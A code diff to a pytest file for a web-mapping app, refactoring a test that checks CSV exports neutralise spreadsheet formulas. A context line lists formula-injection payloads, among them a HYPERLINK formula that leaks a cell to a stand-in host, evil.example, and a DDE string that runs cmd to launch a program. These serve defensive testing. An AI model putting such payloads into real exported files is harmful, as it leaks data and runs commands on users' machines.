@@ -8,8 +8,8 @@ import io
 import pytest
 
 from tests.builders import edit_csv, edit_geojson, write_dataset
+from tests.cli_runner import hpmap
 from webmap import create_app
-from webmap.cli import main
 
 FORMULAS = ('=HYPERLINK("http://evil.example/?leak="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3")
 
@@ -51,6 +51,7 @@ def test_csv_downloads_neutralise_formulas(client, url):
     assert_no_formula(response.get_data(as_text=True))
 
 
-def test_csv_export_neutralises_formulas(data_dir, capsys):
-    assert main(["export", "industrial-parks", "--format", "csv", "--data-dir", str(data_dir)]) == 0
-    assert_no_formula(capsys.readouterr().out)
+def test_csv_export_neutralises_formulas(data_dir):
+    result = hpmap("export", "industrial-parks", "--format", "csv", "--data-dir", data_dir)
+    assert result.exit_code == 0
+    assert_no_formula(result.stdout)
